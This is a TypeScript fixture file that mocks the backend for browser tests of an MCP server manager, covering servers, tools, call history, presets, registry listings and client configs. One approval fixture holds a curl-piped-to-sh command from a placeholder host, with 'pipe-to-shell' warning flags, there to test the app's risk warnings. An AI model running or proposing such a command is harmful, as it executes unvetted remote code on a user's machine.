// The backend every browser test starts from: three servers (ready, stopped, failed), their tools, resources,
// prompts and log, a call history, the preset catalog, an OS keychain and Cursor's config found for import. A test
// changes only what its flow is about, with `ipc.respond`.
import type {
  ApprovalRequest,
  CallEvent,
  HistoryEntry,
  HistorySummary,
  PendingRequest,
  ServerStatusEntry,
  ServerSummary,
  ToolInfo,
} from "../src/ipc/bindings";
import { budget, clientStatus, preview } from "../src/features/clients/clientFixtures";
import { FILESYSTEM, GITHUB } from "../src/features/presets/presetFixtures";
import { cursorFile, plan, sources, summary } from "../src/test/importFixtures";
import { EVERY_SHAPE, LONG_FORM } from "../src/test/schemaFixtures";
import { channelOf, type Responses } from "./ipc";

export const CONFIG_PATH = "/home/ada/.config/plugboard/servers.json";

/** A server as `list_servers` reports it (stdio, enabled, hand-written unless `fields` says otherwise). */
export function server(fields: Partial<ServerSummary> & Pick<ServerSummary, "name">): ServerSummary {
  return { transport: "stdio", target: `npx -y ${fields.name}-mcp`, enabled: true, origin: null, oauth: false, notes: [], ...fields };
}

/** A tool of server `of`, allowed unless `fields` says otherwise. */
export function tool(of: string, fields: Partial<ToolInfo> & Pick<ToolInfo, "name">): ToolInfo {
  return {
    exposedName: `mcp__${of}__${fields.name}`,
    title: null,
    description: `Does ${fields.name}.`,
    allowed: true,
    withheld: null, hiddenContent: [],
    inputSchema: '{"type":"object"}',
    ...fields,
  };
}

export const SERVERS: ServerSummary[] = [
  server({ name: "files", origin: "cursor" }),
  server({ name: "github", transport: "streamableHttp", target: "https://api.githubcopilot.com/mcp/" }),
  server({ name: "weather", target: "uvx weather-mcp --units metric" }),
];

export const STATUSES: ServerStatusEntry[] = [
  { server: "files", status: { state: "ready", tools: 3, protocolVersion: "2025-06-18", serverName: "files" } },
  { server: "github", status: { state: "stopped" } },
  { server: "weather", status: { state: "failed", error: "exited with status 1", stderrTail: "ModuleNotFoundError: httpx" } },
];

export const FILES_TOOLS: ToolInfo[] = [
  tool("files", {
    name: "read_file",
    description: "Reads a file.",
    inputSchema: JSON.stringify({
      type: "object",
      properties: { path: { type: "string", description: "The file to read." }, lines: { type: "integer" } },
      required: ["path"],
    }),
  }),
  tool("files", { name: "write_file", description: "Writes a file." }),
  tool("files", { name: "list_dir", description: "Lists a folder." }),
];

export const FILES_ENTRY = JSON.stringify({ command: "npx", args: ["-y", "files-mcp"] }, null, 2);

/** When the history's calls were made: 2026-11-30 09:00 UTC. */
export const CALLED_AT = Date.UTC(2026, 10, 30, 9, 0);

/** A saved call of read_file whose result is a text block. */
export function historyEntry(fields: Partial<HistoryEntry> & Pick<HistoryEntry, "id">): HistoryEntry {
  return {
    server: "files",
    tool: "read_file",
    arguments: '{"path":"/etc/hosts"}',
    startedAtMs: CALLED_AT,
    durationMs: 42,
    outcome: { kind: "result", isError: false, result: textResult("127.0.0.1 localhost"), truncated: false },
    cliCommand: `plugboard call files read_file --args '{"path":"/etc/hosts"}'`,
    origin: null,
    unrecorded: null,
    ...fields,
  };
}

/** An MCP CallToolResult as JSON text with one text block. */
export function textResult(text: string, isError = false): string {
  return JSON.stringify({ content: [{ type: "text", text }], isError });
}

export const HISTORY: HistoryEntry[] = [
  historyEntry({ id: 2, arguments: '{"path":"/etc/hostname"}', startedAtMs: CALLED_AT + 60_000 }),
  historyEntry({ id: 1 }),
];

/** What the history list shows of an entry. */
export function historySummary(entry: HistoryEntry): HistorySummary {
  const status =
    entry.outcome.kind === "result"
      ? entry.outcome.isError
        ? "toolError"
        : "ok"
      : entry.outcome.kind === "failed"
        ? "failed"
        : "cancelled";
  return {
    id: entry.id,
    server: entry.server,
    tool: entry.tool,
    argumentsPreview: entry.arguments.slice(0, 120),
    startedAtMs: entry.startedAtMs,
    durationMs: entry.durationMs,
    status,
    origin: entry.origin,
  };
}

/** The events the default run_tool_call streams before it answers. */
export const CALL_EVENTS: CallEvent[] = [
  { kind: "progress", progress: 1, total: 2, message: "opening the file" },
  { kind: "log", level: "info", logger: "fs", message: "read 20 bytes" },
  { kind: "progress", progress: 2, total: 2, message: "done" },
];

/** A form request from files: a name (string) and an age (integer). */
export const ELICITATION: PendingRequest = {
  id: 7,
  server: "files",
  ask: {
    kind: "elicitation",
    message: "Who are you?",
    schema: JSON.stringify({
      type: "object",
      properties: {
        name: { type: "string", title: "Your name" },
        age: { type: "integer", title: "Your age" },
      },
      required: ["name"],
    }),
  },
};

/** A form request from files with one field of every shape MCP's 2025-11-25 elicitation allows (schemaFixtures.ts). */
export const EVERY_SHAPE_ELICITATION: PendingRequest = {
  id: 12,
  server: "files",
  ask: { kind: "elicitation", message: "Set up your profile.", schema: JSON.stringify(EVERY_SHAPE) },
};

/** A form request taller than the window (30 text fields). */
export const LONG_ELICITATION: PendingRequest = {
  id: 13,
  server: "files",
  ask: { kind: "elicitation", message: "Fill in the survey.", schema: JSON.stringify(LONG_FORM) },
};

export const SAMPLING: PendingRequest = {
  id: 8,
  server: "files",
  ask: {
    kind: "sampling",
    messages: [{ role: "user", text: "Summarise /etc/hosts." }],
    systemPrompt: "You are terse.",
    maxTokens: 200,
  },
};

export const ROOTS: PendingRequest = { id: 9, server: "files", ask: { kind: "roots" } };

/** Answers for every command the existing screens call. New screens add theirs here. */
/** A server written into servers.json by another program, awaiting approval of a script piped to a shell. */
export const RISKY_APPROVAL: ApprovalRequest = {
  server: "installer",
  digest: "6f1c0ffee",
  launches: true,
  summary: "/usr/bin/sh -c 'curl -fsSL https://get.example/mcp.sh | sh'",
  env: ["API_KEY = ${secret:API_KEY}", "DEBUG (a literal value)"],
  cwd: "/home/ada",
  flags: [
    { id: "pipe-to-shell", message: "It downloads a script and runs it (curl … | sh)." },
    { id: "shell-script", message: "It gives sh a script to run rather than a program." },
  ],
  decision: null,
};

/** A pinned package from a preset, awaiting approval. */
export const PINNED_APPROVAL: ApprovalRequest = {
  server: "memory",
  digest: "0a11ce",
  launches: true,
  summary: "/usr/bin/npx -y @modelcontextprotocol/server-memory@2026.8.31",
  env: [],
  cwd: null,
  flags: [],
  decision: null,
};

export function defaultResponses(): Responses {
  return {
    listServers: { configPath: CONFIG_PATH, servers: SERVERS, invalid: [], fileProblem: null },
    serverStatuses: STATUSES,
    connectServer: null,
    disconnectServer: null,
    removeServer: 0,
    serverAllowlist: (name) => ({ entries: null, tools: name === "files" ? FILES_TOOLS : [], unknownEntries: [], withheldBesidesTools: [] }),
    serverTools: (name) => (name === "files" ? FILES_TOOLS : []),
    setServerTools: null,
    getServer: () => FILES_ENTRY,
    checkServerEntry: null,
    updateServer: null,
    serverLoginState: null,
    vaultStatus: {
      backend: "keychain",
      persists: true,
      summary: "Secrets are kept in the OS keychain.",
      keychainUnavailableReason: null,
      whatToDo: null,
      insecureFilePath: null,
    },
    appPaths: {
      configFile: CONFIG_PATH,
      dataDir: "/home/ada/.local/share/plugboard",
      logDir: "/home/ada/.local/state/plugboard/logs",
      version: "0.1.0",
    },
    gatewayEndpoint: { settings: { enabled: false, port: 7450 }, url: null, problem: null },
    setGatewayEndpoint: (settings) => ({
      settings,
      url: settings.enabled ? `http://127.0.0.1:${settings.port}/mcp` : null,
      problem: null,
    }),
    gatewayToken: "pbg_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    rotateGatewayToken: "pbg_fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210",
    detectImportSources: sources(),
    planImport: plan([cursorFile()]),
    applyImport: summary({ added: ["github"], renamed: [["linear", "linear-2"]], secretsMoved: 1, identical: 1, invalid: 1 }),
    missedDeepLinkRejections: [],
    startupProblem: null,
    missedInstallOffers: [],
    missedBundles: [],
    addServer: null,
    checkServerProgram: null,
    // A server's page: its secrets, lifecycle and diagnosis.
    serverSecrets: [],
    setServerEnabled: null,
    restartServer: null,
    renameServer: null,
    setSecret: null,
    deleteSecret: null,
    diagnoseServer: [
      { name: "config", outcome: "passed", detail: "a local server: uvx mcp-server-fetch" },
      { name: "references", outcome: "passed", detail: "0 secret(s) found in the keychain, 0 environment variable(s) set" },
      {
        name: "program",
        outcome: "failed",
        detail: "Could not start `uvx`: it is not installed (not found in the 6 folders of PATH).",
        whatToDo: "Install uv (it brings uvx), then retry.",
      },
      { name: "handshake", outcome: "skipped" },
    ],
    // Console: streams CALL_EVENTS on the call's Channel, then answers with the saved entry.
    runToolCall: async (callId, server, tool, args, onEvent) => {
      void callId;
      const channel = channelOf(onEvent);
      for (const event of CALL_EVENTS) await channel.send([event]);
      return historyEntry({ id: 3, server, tool, arguments: args, outcome: { kind: "result", isError: false, result: textResult("hello from the tool"), truncated: false } });
    },
    cancelToolCall: true,
    callHistory: (query) => {
      const entries = HISTORY.filter((entry) => `${entry.server} ${entry.tool} ${entry.arguments}`.includes(query));
      return { entries: entries.map(historySummary), total: entries.length };
    },
    historyEntry: (id) => HISTORY.find((entry) => entry.id === id) ?? historyEntry({ id }),
    clearCallHistory: null,
    // Presets.
    listPresets: [FILESYSTEM, GITHUB],
    previewPreset: (preset, inputs) =>
      preset === FILESYSTEM.preset.name
        ? {
            target: `npx -y @modelcontextprotocol/server-filesystem@2026.8.31 ${inputs["allowed_folder"] ?? "{allowed_folder}"}`,
            env: [],
            headers: [],
          }
        : { target: "https://api.githubcopilot.com/mcp/", env: [], headers: [{ name: "Authorization", template: "Bearer {github_token}" }] },
    addPreset: (_preset, name) => name,
    // The MCP Registry: one registry answering with one entry, one left out, and a next page.
    searchRegistry: (_text, registry) => [
      {
        source: { name: "Official MCP Registry", url: "https://registry.modelcontextprotocol.io" },
        listings: registry === null ? [{ registry: "https://registry.modelcontextprotocol.io", version: "2026.8.31", ...FILESYSTEM }] : [],
        skipped: [{ name: "io.github.example/old", reason: 'its status is "deprecated": only active servers are offered' }],
        nextCursor: registry === null ? "io.github.example/old:1.0.0" : null,
        cachedAt: null,
        problem: null,
      },
    ],
    previewRegistryEntry: { target: "npx -y @modelcontextprotocol/server-filesystem@2026.8.31 {allowed_folder}", env: [], headers: [] },
    addRegistryEntry: (_entry, name) => name,
    listRegistrySources: [{ name: "Official MCP Registry", url: "https://registry.modelcontextprotocol.io" }],
    addRegistrySource: [{ name: "Official MCP Registry", url: "https://registry.modelcontextprotocol.io" }],
    removeRegistrySource: [],
    // Server detail: what files says about itself, its resources, prompts and log.
    serverInfo: {
      protocolVersion: "2025-06-18",
      name: "files",
      title: "Files",
      version: "1.2.0",
      description: null,
      websiteUrl: null,
      capabilities: ["tools", "resources", "prompts", "logging"],
      instructions: "Paths are absolute.",
    },
    serverResources: [
      { uri: "file:///etc/hosts", name: "hosts", title: "Hosts file", description: "Static host names.", mimeType: "text/plain", size: 20 },
      { uri: "file:///etc/motd", name: "motd", title: null, description: null, mimeType: "text/plain", size: null },
    ],
    serverResourceTemplates: [
      { uriTemplate: "file:///home/{user}/notes.txt", name: "notes", title: "A person's notes", description: null, mimeType: "text/plain" },
    ],
    readResource: (_name, uri) => [{ kind: "text", uri, mimeType: "text/plain", text: `contents of ${uri}` }],
    serverPrompts: [
      {
        name: "summarise",
        title: "Summarise a file",
        description: "Asks for a summary.",
        arguments: [
          { name: "path", title: null, description: "The file to summarise.", required: true },
          { name: "style", title: null, description: null, required: false },
        ],
      },
    ],
    getPrompt: (_name, prompt, args) => ({
      description: null,
      messages: [{ role: "user", content: JSON.stringify({ type: "text", text: `${prompt} ${args["path"] ?? ""} ${args["style"] ?? ""}`.trim() }) }],
    }),
    serverLog: [
      { seq: 1, atMs: CALLED_AT, level: "debug", logger: "fs", message: "watching /etc" },
      { seq: 2, atMs: CALLED_AT + 1000, level: "info", logger: "fs", message: "ready to serve" },
      { seq: 3, atMs: CALLED_AT + 2000, level: "error", logger: "fs", message: "cannot read /root" },
    ],
    // Requests waiting for the person: none unless a test emits one.
    pendingRequests: [],
    // Servers awaiting approval: none unless a test says so.
    pendingApprovals: [],
    decideApproval: null,
    answerElicitation: null,
    answerSampling: null,
    answerRoots: null,
    // Clients: Cursor found (over its 40 with everything curated), Claude Desktop connected, VS Code not found.
    listClients: CLIENTS,
    planClientChange: () => preview(),
    applyClientChange: () => preview(),
    chooseClientLimit: null,
    // The desktop app: not started at login; any folder can be shown.
    launchAtLogin: false,
    setLaunchAtLogin: (enabled) => enabled,
    showInFolder: null,
  };
}

/** The clients every test starts from. */
export const CLIENTS = [
  clientStatus({
    budget: budget({
      current: { profile: null, search: false, tools: 57, unknownServers: ["linear"] },
      trims: [{ kind: "profile", profile: "coding", tools: 5, search: false }, { kind: "searchMode", tools: 3 }],
      options: [
        { profile: null, search: false, tools: 57, unknownServers: ["linear"] },
        { profile: "coding", search: false, tools: 5, unknownServers: [] },
      ],
    }),
  }),
  clientStatus({
    client: "claude-desktop",
    label: "Claude Desktop",
    file: "/home/ada/.config/Claude/claude_desktop_config.json",
    lookedAt: [{ path: "/home/ada/.config/Claude/claude_desktop_config.json", found: true }],
    connection: { state: "current", profile: "coding" },
    hasBackup: true,
    budget: budget({
      limit: null,
      documented: null,
      documentedSays: "Claude Desktop documents no limit on the number of tools",
      documentedSource: null,
      current: { profile: "coding", search: false, tools: 5, unknownServers: [] },
    }),
  }),
  clientStatus({
    client: "vscode",
    label: "VS Code",
    file: "/home/ada/.config/Code/User/mcp.json",
    lookedAt: [
      { path: "/home/ada/.config/Code/User/mcp.json", found: false },
      { path: "/home/ada/.config/Code - Insiders/User/mcp.json", found: false },
    ],
    budget: budget({ limit: 128, documented: 128, documentedSays: "VS Code takes at most 128 tools in a chat request" }),
  }),
];
